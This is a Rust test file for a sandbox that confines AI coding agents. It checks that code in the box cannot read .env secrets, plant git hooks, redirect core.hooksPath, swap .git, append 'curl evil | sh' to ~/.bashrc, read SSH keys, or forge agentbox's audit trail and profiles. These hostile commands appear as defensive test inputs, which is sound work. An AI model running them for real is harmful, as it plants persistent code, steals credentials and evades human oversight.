//! The workspace: .env, git hooks and config, shell start-up files, commits, litter.

use crate::common::*;
use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

// `.env` and `.env.*` in the workspace are hidden (empty and unreadable), and cannot be
// overwritten either.
#[test]
fn workspace_dotenv_files_hidden() {
    let names = [".env", ".env.local", ".env.production"];
    let body = r#"
for n in A:
    report('read:' + n, lambda n=n: rd(n))
    def w(n=n):
        with open(n, 'a') as fh:
            fh.write('x')
    report('write:' + n, w)
    report('rm:' + n, lambda n=n: os.unlink(n))
    report('mv:' + n, lambda n=n: os.rename(n, n + '.moved'))
"#;
    for who in who() {
        for (layout, f) in layouts(who) {
            for n in names {
                std::fs::write(f.ws.join(n), format!("KEY=dotenv-secret-value-{n}\n")).unwrap();
                chown_to(&f.ws.join(n), who);
            }
            let (hout, hv) = py_host(
                who,
                &f.ws,
                "for n in A:\n    report('read:' + n, lambda n=n: rd(n))",
                &names,
            );
            for n in names {
                want(
                    "host control .env",
                    &hout,
                    &hv,
                    &format!("read:{n}"),
                    &["LEAK"],
                );
            }
            let (out, v) = py_box(&f, FULL, body, &names);
            for n in names {
                let ctx = format!("[{who:?}/{layout}] {n}");
                want(&ctx, &out, &v, &format!("read:{n}"), &["EACCES", "EMPTY"]);
                want(
                    &ctx,
                    &out,
                    &v,
                    &format!("write:{n}"),
                    &["EACCES", "EROFS", "EPERM"],
                );
                want(
                    &ctx,
                    &out,
                    &v,
                    &format!("rm:{n}"),
                    &["EBUSY", "EACCES", "EPERM"],
                );
                want(
                    &ctx,
                    &out,
                    &v,
                    &format!("mv:{n}"),
                    &["EBUSY", "EACCES", "EPERM"],
                );
                assert_eq!(
                    std::fs::read_to_string(f.ws.join(n)).unwrap(),
                    format!("KEY=dotenv-secret-value-{n}\n"),
                    "{ctx}: changed on the host"
                );
            }
        }
    }
}

// Planting .git/hooks/pre-commit (runs later, outside the box, as the person).
#[test]
fn git_hook_cannot_be_planted() {
    for who in who() {
        for (layout, f) in layouts(who) {
            let out = sh_box(
                &f,
                FULL,
                "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; ln -s /bin/true .git/hooks/post-checkout; echo end",
            );
            let ctx = format!("[{who:?}/{layout}] .git/hooks");
            check(
                stdout(&out).contains("end") && stderr(&out).contains("Read-only"),
                &ctx,
                &out,
            );
            assert!(
                !f.ws.join(".git/hooks/pre-commit").exists(),
                "{ctx}: hook planted"
            );
            assert!(
                std::fs::symlink_metadata(f.ws.join(".git/hooks/post-checkout")).is_err(),
                "{ctx}"
            );
        }
    }
}

// `git config` writes .git/config (core.hooksPath, core.fsmonitor and aliases run commands).
// Inside the box git sees its own private copy (so `git config` works there); on the host the
// file is unchanged afterwards, and the summary says what was not applied.
#[test]
fn git_config_cannot_be_changed() {
    for who in who() {
        for (layout, f) in layouts(who) {
            let before = std::fs::read(f.ws.join(".git/config")).unwrap();
            let out = sh_box(
                &f,
                FULL,
                "git config user.name evil && echo changed; git config core.hooksPath /tmp && echo changed2; echo '[core]' >> .git/config && echo appended; true",
            );
            let ctx = format!("[{who:?}/{layout}] git config");
            check(
                stderr(&out).contains("not applied: .git/config")
                    && stderr(&out).contains("core.hookspath"),
                &ctx,
                &out,
            );
            assert_eq!(
                std::fs::read(f.ws.join(".git/config")).unwrap(),
                before,
                "{ctx}"
            );
        }
    }
}

/// What git on the host sees of the workspace's repository.
#[derive(Debug, PartialEq)]
struct HostGitView {
    /// Inode of `.git` (None: gone, or not a directory).
    git_dir: Option<u64>,
    config: String,
    /// `.git/hooks/pre-commit` exists.
    hook: bool,
    /// `core.hooksPath` as the person's git reads it (empty: unset).
    hooks_path: String,
}

fn host_git_view(f: &Fixture) -> HostGitView {
    let git = f.ws.join(".git");
    let hooks_path = stdout(&host_git(f, &f.ws, &["config", "--get", "core.hooksPath"]));
    HostGitView {
        git_dir: std::fs::symlink_metadata(&git)
            .ok()
            .filter(|m| m.is_dir())
            .map(|m| m.ino()),
        config: String::from_utf8_lossy(&std::fs::read(git.join("config")).unwrap_or_default())
            .into_owned(),
        hook: std::fs::symlink_metadata(git.join("hooks/pre-commit")).is_ok(),
        hooks_path: hooks_path.trim().to_string(),
    }
}

// Renaming the protected .git away and putting a fresh copy in its place, with a hook and a
// core.hooksPath. The box then signals the test through a file in the workspace and waits, so
// the test sees what git on the host sees while the box still runs; then the test lets it
// finish (removing the original .git, as an agent covering its tracks would).
// With namespaces the box's git directory is a private view: the host never sees a replaced
// .git or the hook, during the run or after it. Without namespaces the README says git metadata
// is restored after the run only (a command on the host can see the swap meanwhile), so there
// only the state after the run is asserted.
#[test]
fn git_dir_swap_cannot_plant_hooks() {
    let script = "mv .git .git-orig && cp -a .git-orig .git && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.hooksPath .git/hooks && echo swapped; \
                  touch .swap-planted; i=0; while [ ! -e .swap-go ] && [ $i -lt 500 ]; do sleep 0.02; i=$((i+1)); done; \
                  rm -rf .git-orig 2>/dev/null; true";
    for who in who() {
        for extra in [FULL, NO_NS] {
            for (layout, f) in layouts(who) {
                let ctx = format!("[{who:?}/{layout}/{}] .git swap", variant_name(extra));
                let before = host_git_view(&f);
                let mut c = boxcmd(&f, extra, &["sh", "-c", script]);
                c.stdin(Stdio::null())
                    .stdout(Stdio::piped())
                    .stderr(Stdio::piped());
                let mut child = c.spawn().expect("spawn agentbox");
                let signalled = wait_for(&f.ws.join(".swap-planted"), 15);
                let during = host_git_view(&f);
                std::fs::write(f.ws.join(".swap-go"), "").unwrap();
                let (out, _) = collect(&mut child, 20);
                assert_no_secret(&out);
                let after = host_git_view(&f);
                check(signalled, &format!("{ctx}: the box never signalled"), &out);
                if extra == FULL {
                    check(
                        during == before,
                        &format!("{ctx}: while the box runs, git on the host sees {during:?}, not {before:?}"),
                        &out,
                    );
                    check(
                        after == before,
                        &format!(
                            "{ctx}: after the run, git on the host sees {after:?}, not {before:?}"
                        ),
                        &out,
                    );
                }
                // Both modes: no hook or config planted through a renamed .git survives.
                check(
                    !after.hook && after.config == before.config && after.hooks_path == before.hooks_path,
                    &format!("{ctx}: a hook or config planted through a renamed .git survives on the host (hook: {}, config changed: {}, hooksPath: {:?})", after.hook, after.config != before.config, after.hooks_path),
                    &out,
                );
            }
        }
    }
}

// Appending to ~/.bashrc (runs at the person's next shell).
#[test]
fn bashrc_append_denied() {
    for who in who() {
        for (layout, f) in layouts(who) {
            let out = sh_box(
                &f,
                FULL,
                "echo 'curl evil | sh' >> \"$HOME/.bashrc\" && echo appended; echo end",
            );
            let ctx = format!("[{who:?}/{layout}] ~/.bashrc");
            check(!stdout(&out).contains("appended"), &ctx, &out);
            assert_eq!(
                std::fs::read_to_string(f.home.join(".bashrc")).unwrap(),
                "# rc\n",
                "{ctx}"
            );
        }
    }
}

// Protected paths that do not exist yet (.husky, .envrc, .vscode, .idea, .mcp.json,
// .gitmodules) may be created inside, but must be gone from the workspace after the run. Not
// deleted: agentbox cannot know who wrote them (the person's editor may have, on the host), so
// they are moved to the quarantine named on stderr, content intact.
#[test]
fn missing_protected_paths_created_inside_are_removed() {
    let names = [
        ".husky/pre-commit",
        ".envrc",
        ".vscode/settings.json",
        ".idea/workspace.xml",
        ".mcp.json",
        ".gitmodules",
    ];
    for who in who() {
        for (layout, f) in layouts(who) {
            let script = names
                .iter()
                .map(|n| format!("mkdir -p \"$(dirname {n})\"; echo evil > {n};"))
                .collect::<String>();
            let out = sh_box(&f, FULL, &format!("{script} echo end"));
            let ctx = format!("[{who:?}/{layout}] missing protected paths");
            check(stdout(&out).contains("end"), &ctx, &out);
            let err = stderr(&out);
            let q = quarantine_named(&err)
                .unwrap_or_else(|| panic!("{ctx}: no quarantine named\n{err}"));
            assert!(
                q.starts_with(&f.home),
                "{ctx}: quarantine {} outside HOME",
                q.display()
            );
            for n in names {
                let top = n.split('/').next().unwrap();
                assert!(
                    std::fs::symlink_metadata(f.ws.join(top)).is_err(),
                    "{ctx}: {top} left in the workspace\nstderr: {err}"
                );
                assert!(
                    quarantined(&q, n).is_some_and(|c| c == "evil\n"),
                    "{ctx}: {n} not in the quarantine {}\nstderr: {err}",
                    q.display()
                );
            }
        }
    }
}

/// The content of the workspace path `rel` in the quarantine `q` (each item has a numbered slot
/// holding its path relative to the workspace).
fn quarantined(q: &Path, rel: &str) -> Option<String> {
    std::fs::read_dir(q)
        .ok()?
        .flatten()
        .find_map(|slot| std::fs::read_to_string(slot.path().join(rel)).ok())
}

// agentbox's own configuration (profiles an agent could loosen) and its audit trail (which an
// agent could forge or erase) in a HOME that is reachable by path.
#[test]
fn agentbox_config_and_audit_trail_untouchable() {
    let body = r#"
def app(p):
    with open(p, 'a') as fh:
        fh.write('{}\n')
report('read_audit', lambda: rd(A[0]))
report('append_audit', lambda: app(A[0]))
report('truncate_audit', lambda: os.truncate(A[0], 0))
report('read_profile', lambda: rd(A[1]))
report('write_profile', lambda: app(A[1]))
report('new_profile', lambda: open(os.path.join(os.path.dirname(A[1]), 'evil.yaml'), 'w').close())
"#;
    for who in who() {
        let f = Fixture::new(who);
        let prof = f.user_profile(
            "mine",
            "description: CREDENTIAL-FILE-CONTENT\nextends: default\n",
        );
        chown_to(&f.home.join(".config"), who);
        // A first run writes the audit trail.
        let _ = sh_box(&f, FULL, "true");
        let audit = f.audit_log();
        let before = std::fs::read(&audit).ok();
        let (a, p) = (audit.to_str().unwrap(), prof.to_str().unwrap());
        let (out, v) = py_box(&f, FULL, body, &[a, p]);
        let ctx = format!("[{who:?}] agentbox config/audit");
        if require("the audit trail a first run writes", before.is_some()) {
            want(&ctx, &out, &v, "read_audit", &["EACCES", "ENOENT"]);
            want(&ctx, &out, &v, "append_audit", &["EACCES", "ENOENT"]);
            want(&ctx, &out, &v, "truncate_audit", &["EACCES", "ENOENT"]);
            let after = std::fs::read(&audit).unwrap();
            assert!(
                before.as_ref().is_some_and(|b| after.starts_with(b)),
                "{ctx}: audit trail rewritten"
            );
        }
        want(&ctx, &out, &v, "read_profile", &["EACCES", "ENOENT"]);
        want(&ctx, &out, &v, "write_profile", &["EACCES", "ENOENT"]);
        want(&ctx, &out, &v, "new_profile", &["EACCES", "ENOENT"]);
        assert!(!prof.with_file_name("evil.yaml").exists(), "{ctx}");
    }
}

// The legitimate path still works: `git add` and `git commit` inside the box succeed.
#[test]
fn git_add_and_commit_succeed() {
    for who in who() {
        for (layout, f) in layouts(who) {
            let out = sh_box(
                &f,
                FULL,
                "echo boxed > boxed.txt && git add boxed.txt && git -c user.name=Box -c user.email=box@example.invalid commit -q -m 'from the box' && git log --oneline | head -1",
            );
            let ctx = format!("[{who:?}/{layout}] git commit");
            check(
                out.status.success() && stdout(&out).contains("from the box"),
                &ctx,
                &out,
            );
            let log = Command::new("git")
                .args(["-c", "safe.directory=*", "log", "--format=%an %s", "-1"])
                .current_dir(&f.ws)
                .output()
                .unwrap();
            assert_eq!(
                String::from_utf8_lossy(&log.stdout).trim(),
                "Box from the box",
                "{ctx}"
            );
        }
    }
}

/// Recursive listing: path, type, mode, size, content (for files up to 64 KiB).
fn listing(root: &Path) -> BTreeMap<PathBuf, String> {
    fn walk(root: &Path, p: &Path, out: &mut BTreeMap<PathBuf, String>) {
        let Ok(m) = std::fs::symlink_metadata(p) else {
            return;
        };
        let rel = p.strip_prefix(root).unwrap().to_path_buf();
        let ft = m.file_type();
        let desc = if ft.is_symlink() {
            format!("link {:?}", std::fs::read_link(p).ok())
        } else if ft.is_dir() {
            format!("dir {:o}", m.permissions().mode())
        } else if ft.is_file() {
            let data = if m.len() <= 65536 {
                std::fs::read(p).unwrap_or_default()
            } else {
                vec![]
            };
            format!(
                "file {:o} {} {:?}",
                m.permissions().mode(),
                m.len(),
                String::from_utf8_lossy(&data)
            )
        } else {
            format!("other {:o}", m.permissions().mode())
        };
        out.insert(rel, desc);
        if ft.is_dir() {
            if let Ok(rd) = std::fs::read_dir(p) {
                for e in rd.flatten() {
                    walk(root, &e.path(), out);
                }
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

fn tmp_leftovers(pids: &[u32]) -> Vec<String> {
    let mut left = Vec::new();
    for dir in ["/tmp", "/var/tmp", "/dev/shm", "/run"] {
        let Ok(rd) = std::fs::read_dir(dir) else {
            continue;
        };
        for e in rd.flatten() {
            let n = e.file_name().to_string_lossy().into_owned();
            for pid in pids {
                if n.starts_with(&format!("agentbox-{pid}-"))
                    || n == format!(".agentbox-tmp-{pid}")
                    || n == format!(".agentbox-{pid}")
                {
                    left.push(format!("{dir}/{n}"));
                }
            }
        }
    }
    left
}

// No litter: after runs (including failed escape attempts and writes to the private temp
// dirs), the workspace and HOME hold exactly what they held before, and agentbox's own temp
// dirs are gone.
#[test]
fn no_litter_in_workspace_home_or_tmp() {
    let scripts = [
        "true",
        "ls -la >/dev/null; cat README.md >/dev/null; echo x > /tmp/agentbox-litter-t; echo y > /dev/shm/agentbox-litter-t; mkdir -p \"$TMPDIR/d/e\"; echo z > \"$TMPDIR/d/e/f\"",
        "cat .env; echo x > .env; echo x >> .git/config; touch .git/hooks/pre-commit; mkdir -p .husky .vscode; touch .husky/h .envrc .mcp.json .vscode/s; echo x >> \"$HOME/.bashrc\"; cat \"$HOME/.ssh/id_ed25519\"; true",
        "exit 3",
    ];
    for who in who() {
        for (layout, f) in layouts(who) {
            std::fs::write(f.ws.join(".env"), "KEY=dotenv-secret-value\n").unwrap();
            chown_to(&f.ws.join(".env"), who);
            let ws_before = listing(&f.ws);
            let home_before = listing(&f.home);
            let mut pids = Vec::new();
            for extra in [FULL, NO_NS] {
                for s in scripts {
                    let (_, pid) = run_box_pid(&f, extra, &["sh", "-c", s]);
                    pids.push(pid);
                }
                // The private /tmp and /dev/shm are gone with the box. (Without namespaces the
                // plan grants the host's /dev/shm on purpose, so only the full sandbox counts.)
                if extra == FULL {
                    for p in ["/tmp/agentbox-litter-t", "/dev/shm/agentbox-litter-t"] {
                        assert!(
                            !Path::new(p).exists(),
                            "[{who:?}/{layout}] {p} reached the host"
                        );
                    }
                }
            }
            let _ = std::fs::remove_file("/dev/shm/agentbox-litter-t");
            let ctx = format!("[{who:?}/{layout}] litter");
            let ws_after = listing(&f.ws);
            // agentbox's own audit trail ($XDG_STATE_HOME/agentbox, written by the supervisor on
            // purpose) is not litter; everything else in HOME must be as it was.
            let own_state = Path::new(".local/state/agentbox");
            let mut home_after = listing(&f.home);
            home_after.retain(|p, _| {
                !(own_state.starts_with(p) || p.starts_with(own_state))
                    || home_before.contains_key(p)
            });
            let diff =
                |a: &BTreeMap<PathBuf, String>, b: &BTreeMap<PathBuf, String>| -> Vec<String> {
                    let mut d = Vec::new();
                    for (k, v) in a {
                        if b.get(k) != Some(v) {
                            d.push(format!("- {} {v}", k.display()));
                        }
                    }
                    for (k, v) in b {
                        if a.get(k) != Some(v) {
                            d.push(format!("+ {} {v}", k.display()));
                        }
                    }
                    d
                };
            let dw = diff(&ws_before, &ws_after);
            assert!(
                dw.is_empty(),
                "{ctx}: workspace changed:\n{}",
                dw.join("\n")
            );
            let dh = diff(&home_before, &home_after);
            assert!(dh.is_empty(), "{ctx}: HOME changed:\n{}", dh.join("\n"));
            let left = tmp_leftovers(&pids);
            assert!(left.is_empty(), "{ctx}: temp dirs left behind: {left:?}");
        }
    }
}

// agentbox's post-run guard (which moves protected paths created inside the box aside) runs
// outside the box, as the person: it must not follow a symlink the box planted. Here `.git`
// (whose hooks/ did not exist at launch) is swapped for a symlink to a directory outside the
// workspace; a guard acting through paths would see `.git/hooks` "appear" and move or delete
// the outside directory.
#[test]
fn post_run_guard_does_not_follow_planted_symlinks() {
    for who in who() {
        let f = Fixture::new(who);
        std::fs::remove_dir_all(f.ws.join(".git/hooks")).unwrap();
        let victim = f.dir.path().join("victim");
        std::fs::create_dir_all(victim.join("hooks")).unwrap();
        std::fs::write(victim.join("hooks/keep-me"), "precious\n").unwrap();
        // ws = <dir>/work/repo, so ../../victim from the workspace.
        let out = sh_box(
            &f,
            FULL,
            "mv .git .git-real && ln -s ../../victim .git && echo swapped; true",
        );
        let ctx = format!("[{who:?}] guard follows a planted .git symlink");
        check(
            victim.join("hooks/keep-me").exists(),
            &format!(
                "{ctx}: agentbox deleted {}/hooks outside the workspace",
                victim.display()
            ),
            &out,
        );
    }
}
